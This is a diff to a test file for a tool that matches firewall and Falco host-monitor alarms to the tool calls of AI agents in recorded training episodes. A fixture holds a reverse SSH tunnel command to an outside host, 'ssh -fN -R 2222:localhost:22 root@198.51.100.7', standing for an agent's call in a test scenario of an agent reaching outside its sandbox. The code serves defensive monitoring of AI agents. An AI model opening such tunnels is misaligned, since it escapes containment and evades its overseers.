@@ -4,7 +4,17 @@ import { actsOf } from "../../src/outside/acts.ts";
 import { importAlarms } from "../../src/outside/import.ts";
 import { landAlarms } from "../../src/outside/landing.ts";
 import { alarmLineOf } from "../../src/outside/ledger.ts";
-import { beginOf, entriesOf, logText, program, seen, T0, type Timed, turnOf } from "../recorded.ts";
+import {
+  beginOf,
+  entriesOf,
+  logText,
+  program,
+  seen,
+  T0,
+  type Timed,
+  tunnelEpisode,
+  turnOf,
+} from "../recorded.ts";
 
 /**
  * The paper's story: a training run in which nothing inside rang, a firewall on the way out whose clock is 3.7 s ahead, and the question
@@ -79,8 +89,8 @@ const CSV = [
 
 const acts = episodes.flatMap(({ id, entries }) => actsOf(id, entries));
 const { alarms, skipped, faults } = importAlarms(CSV, "fw.csv", { format: "flow-log" });
-const { skew, landings } = landAlarms(alarms, acts);
-const lines = landings.map((landing) => alarmLineOf(landing, skew));
+const { clocks, landings } = landAlarms(alarms, acts);
+const lines = landings.map(alarmLineOf);
 const logged = lines.map((line, seq) => ({ seq, hash: String(seq).repeat(64).slice(0, 64), line }));
 
 it("is read whole, but for what was let through", () => {
@@ -88,7 +98,8 @@ it("is read whole, but for what was let through", () => {
 });
 
 it("sets the clocks by each other", () => {
-  expect(Math.abs(skew.offsetMs - SKEW_MS)).toBeLessThan(500);
+  expect(clocks).toMatchObject([{ support: expect.any(Number) }]);
+  expect(Math.abs(clocks[0]!.offsetMs - SKEW_MS)).toBeLessThan(500);
 });
 
 it("lands each alarm on the episode and chunk that dialled, by the port that the gateway dialled from", () => {
@@ -122,7 +133,7 @@ it("makes an incident where the log itself had raised no alert", () => {
     rule: "outside",
     delayMs: null,
     call: { arguments: { command: tunnel.command } },
-    alarms: [{ id: "fw.csv:2", skewMs: skew.offsetMs, rivals: [] }],
+    alarms: [{ id: "fw.csv:2", skewMs: lines[0]!.skewMs, rivals: [] }],
     flows: [{ upstream: "198.51.100.7:443", bytesUp: 1_200 }],
     processes: [{ depth: 0 }, { command: tunnel.command, alerted: true }],
   });
@@ -159,7 +170,30 @@ it("is nobody's chunk where the connection was made before the agent began", () 
     "fw.csv",
   ).alarms;
   const landed = landAlarms(alarm, actsOf("ep_install", entries));
-  const line = alarmLineOf(landed.landings[0]!, landed.skew);
+  const line = alarmLineOf(landed.landings[0]!);
   expect(line).toMatchObject({ status: "matched", places: [{ episode: "ep_install", chunk: null }] });
   expect(incidentsOf(entries, [{ seq: 0, hash: "0".repeat(64), line }])).toEqual([]);
+});
+
+it("finds the call that started what a host's monitor saw, and puts both into one incident", () => {
+  const log = entriesOf(logText(T0, tunnelEpisode()));
+  const falco = {
+    hostname: "node-3",
+    priority: "Warning",
+    rule: "Launch Suspicious Network Tool in Container",
+    output_fields: {
+      "container.name": "ale-sb_1",
+      "evt.time": (T0 + 2_003) * 1e6,
+      "proc.cmdline": "ssh -fN -R 2222:localhost:22 root@198.51.100.7",
+      "proc.name": "ssh",
+    },
+    time: new Date(T0 + 2_003).toISOString(),
+  };
+  const { alarms } = importAlarms(JSON.stringify(falco), "falco.jsonl");
+  const [landing] = landAlarms(alarms, actsOf("ep_night", log)).landings;
+  const line = alarmLineOf(landing!);
+  expect(line).toMatchObject({ status: "matched", places: [{ chunk: 1, callId: "call_1" }] });
+  const incidents = incidentsOf(log, [{ seq: 0, hash: "0".repeat(64), line }]);
+  expect(incidents).toHaveLength(2);
+  expect(incidents[0]).toMatchObject({ rule: "tunnel-ssh", alarms: [{ title: falco.rule }] });
 });
